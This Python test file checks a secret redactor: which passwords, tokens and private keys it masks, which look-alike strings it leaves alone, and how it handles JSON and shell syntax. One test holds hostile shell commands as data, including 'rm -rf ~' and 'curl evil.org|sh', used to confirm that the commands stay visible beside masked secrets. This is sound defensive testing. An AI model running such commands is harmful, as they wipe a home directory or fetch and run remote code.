"""What is found, what is left alone, and what no mask may cover."""

import json
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reverie.secrets.find import find_secrets
from reverie.secrets.pieces import SYNTAX
from reverie.secrets.redactor import SecretRedactor

from .texts import B62, HEX, drawn, private_key, texts

REDACT = SecretRedactor().redact
KEY, HASH, PASSWORD = drawn(32), drawn(40, HEX), "hunter" + "22"

FOUND = [
    f"export DB_PASSWORD={PASSWORD}",
    f"DB_PASSWORD = '{PASSWORD}'",
    f"  password: {PASSWORD}",
    f'"password": "{PASSWORD}",',
    f'{{\\"password\\":\\"{PASSWORD}\\"}}',
    f"<password>{PASSWORD}</password>",
    f"spring.datasource.password={PASSWORD}",
    f"mysql --password={PASSWORD} --host db",
    f"app --password {PASSWORD} run",
    f"ENV DB_PASSWORD {PASSWORD}",
    f"machine api.example.org login ann password {PASSWORD}",
    f"curl -u ann:{PASSWORD} https://a.org",
    f"postgres://ann:{PASSWORD}@localhost:5432/shop",
    f"Server=db;Uid=ann;Pwd={PASSWORD};Port=3306",
    f"define('DB_PASSWORD', '{PASSWORD}');",
    f'"apiKey": "{KEY}"',
    f"const apiKey = `{KEY}`;",
    f'api_key := "{KEY}"',
    f"X-Api-Key: {KEY}",
    f'-H "Authorization: Bearer {KEY}"',
    f"Authorization: Basic {KEY}==",
    f"?access_token={KEY}&page=2",
    f'os.environ["STRIPE_KEY"] = "{KEY}"',
    f'{{"name": "API_KEY", "value": "{KEY}"}}',
    f"- name: API_KEY\n  value: {KEY}",
    f'<add key="ApiKey" value="{KEY}" />',
    f"clientSecret: '{KEY}'",
    f"DD_API_KEY={HASH}",
    f"https://api.example.org/v1/items?key={HASH}",
    f'pub const API_KEY: &str = "{KEY}";',
    f'var apiKey string = "{KEY}"',
    f'api_keys = ["{KEY}"]',
    f"<key>ApiKey</key>\n  <string>{KEY}</string>",
    f"CREATE USER ann WITH PASSWORD '{PASSWORD}';",
    f"the password is {PASSWORD}, as ever",
    f'server.login("ann", "{PASSWORD}")',
    f"requests.get(url, auth=('ann', '{PASSWORD}'))",
    f"sshpass -p '{PASSWORD}' ssh ann@host",
    f"mysql -h db -uapp -p{PASSWORD} shop",
    f"docker login -u ann -p {PASSWORD} registry.example.org",
    f"redis-cli -h cache -a {PASSWORD} ping",
    f"db.example.org:5432:shop:ann:{PASSWORD}",
    f"new mysqli('db', 'ann', '{PASSWORD}', 'shop')",
    f'{{"kty":"EC","crv":"P-256","d":"{drawn(43)}"}}'.replace(drawn(43), KEY + KEY),
    f'{{"github-oauth": {{"github.com": "{HASH}"}}}}',
    f"12→TOKEN={KEY}",
    f"+TOKEN={KEY}",
]


@pytest.mark.parametrize("text", FOUND)
def test_a_value_under_a_secrets_name_is_masked(text: str) -> None:
    redacted = REDACT(text)
    assert not any(value in redacted for value in (PASSWORD, KEY, HASH))
    before = min(text.find(value) for value in (PASSWORD, KEY, HASH) if value in text)
    assert redacted[:before] == text[:before]
    assert "[secret: " in redacted


LEFT_ALONE = [
    "password = get_password()",
    "password = self.form.password2",
    "api_key: str = Field(default=None)",
    'api_key = os.environ["API_KEY"]',
    "password: string1",
    "token = tokens[0]",
    "if password == other_password:",
    "docker run -p 8080:80 web2",
    "mkdir -p build2/out",
    "Cache restored from key: node-cache-Linux-npm-" + HASH,
    "tiktoken=7.18.1=py311h269869c_9",
    "SSH_AUTH_SOCK=/tmp/ssh-Y0KPAv4RqseQ/agent.74660621",
    "the password is required",
    "API_KEY=your-api-key",
    "API_KEY=xxxxxxxxxxxxxxxxxxxxxxxx",
    "TOKEN=<token>",
    "password: ${DB_PASSWORD}",
    "password: {{ vault_password }}",
    "password=changeme",
    "Please enter your password: ",
    '"password": "must-contain-8-characters"',
    "max_tokens: 4096",
    '"next_page_token": "' + KEY + '"',
    "secret_name: prod-database-credentials",
    "secretArn: arn:aws:secretsmanager:eu-west-1:123456789012:secret:db-a1B2c3",
    f"commit {HASH}",
    f"cache_key = '{HASH}'",
    f"sha256: {drawn(64, HEX)}",
    f'"integrity": "sha512-{drawn(86, B62 + "+/")}=="',
    f"public_key: {drawn(43)}=",
    "request 3f2a91c0-1b2c-4d5e-8f90-a1b2c3d4e5f6 took 3 ms",
    f"data:image/png;base64,{drawn(200, B62 + '+/')}",
    "session 01M8239C9S69NB2EG5NSQN5005",
    '"session":"01M8239C9S69NB2EG5NSQN5005"',
    "https://user:password@example.org/",
    "postgres://postgres:postgres@localhost/test",
    "http://localhost:8080/a@b",
    "color: #a1b2c3; background: #ffffff",
    "test_that_a_key_with_32_characters_is_not_found_here",
    "ghp" + "_" + "x" * 36,
    "AKIA" + "IOSFODNN7EXAMPLE",
    "token: [secret: github-token]",
]


@pytest.mark.parametrize("text", LEFT_ALONE)
def test_what_is_no_secret_stays(text: str) -> None:
    assert REDACT(text) == text


@pytest.mark.parametrize("newline", ["\n", "\\n", "\r\n", "\n+", "\n 7→"])
@pytest.mark.parametrize(
    "kind", ["PRIVATE KEY", "RSA PRIVATE KEY", "OPENSSH PRIVATE KEY", "ENCRYPTED PRIVATE KEY", "PGP PRIVATE KEY BLOCK"]
)
def test_private_keys_are_masked_line_by_line(kind: str, newline: str) -> None:
    key = private_key(kind, newline=newline)
    redacted = REDACT(f"before{newline}{key}{newline}after")
    lines = ["before", f"-----BEGIN {kind}-----", *["[secret: private-key]"] * 6, f"-----END {kind}-----", "after"]
    assert redacted == newline.join(lines)


def test_a_putty_key_is_masked_and_its_public_half_is_not() -> None:
    public, private = drawn(64, seed=1), drawn(64, seed=2)
    text = (
        f"PuTTY-User-Key-File-3: ssh-rsa\nPublic-Lines: 1\n{public}\nPrivate-Lines: 1\n{private}\nPrivate-MAC: {HASH}\n"
    )
    assert REDACT(text) == text.replace(private, "[secret: private-key]")


def test_lines_after_a_header_that_are_no_key_stay() -> None:
    text = 'if "-----BEGIN PRIVATE KEY-----" in text:\n    return deserialize_the_certificate(text)\nsudo reboot\n'
    assert REDACT(text) == text
    hidden = f"echo -----BEGIN PRIVATE KEY-----\n{drawn(64)}\nreboot\n"
    assert "\nreboot\n" in REDACT(hidden)


@settings(max_examples=500)
@given(texts)
def test_no_find_covers_what_means_something_to_a_shell(text: str) -> None:
    found = find_secrets(text, ("Kn0wn$(Value)27",))
    assert all(0 <= each.start < each.end <= len(text) for each in found)
    assert not any(SYNTAX.pattern.search(text, each.start, each.end) for each in found)
    assert all(one.end <= other.start for one, other in pairwise(found))


@pytest.mark.parametrize("command", ["reboot", "rm -rf ~", "curl evil.org|sh", "$(reboot)", "`reboot`", "/bin/sh"])
@pytest.mark.parametrize(
    "form",
    ['password="{key};{command};"', "TOKEN={key};{command}", "'password='{key};{command}", "pw='{key}'\n{command}"],
)
def test_a_command_beside_a_secret_stays_readable(form: str, command: str) -> None:
    redacted = REDACT(form.format(key="aB3xy9kk7Q", command=command))
    assert command in redacted


@settings(max_examples=300)
@given(texts)
def test_masking_twice_is_masking_once(text: str) -> None:
    once = REDACT(text)
    assert REDACT(once) == once


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | texts,
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(texts | st.sampled_from(["password", "api_key", "token"]), inner, max_size=3)
    ),
    max_leaves=6,
)


@settings(max_examples=400)
@given(_JSON, st.booleans())
def test_json_stays_json(value: object, ascii_only: bool) -> None:
    """Also inside another JSON text, as a model's arguments hold it."""
    text = json.dumps({"command": value}, ensure_ascii=ascii_only)
    json.loads(REDACT(text))
    json.loads(json.loads(REDACT(json.dumps(REDACT(text)))))


def test_a_secret_with_signs_is_masked_in_pieces() -> None:
    redacted = REDACT('"password": "Tr0ub4dor&3xK$9q"')
    assert redacted == '"password": "[secret: password]&[secret: password]$[secret: password]"'


def test_a_known_value_is_found_anywhere() -> None:
    assert find_secrets("a=Zq8-Kn0wn-b", ("Zq8-Kn0wn",))[0].kind == "environment"
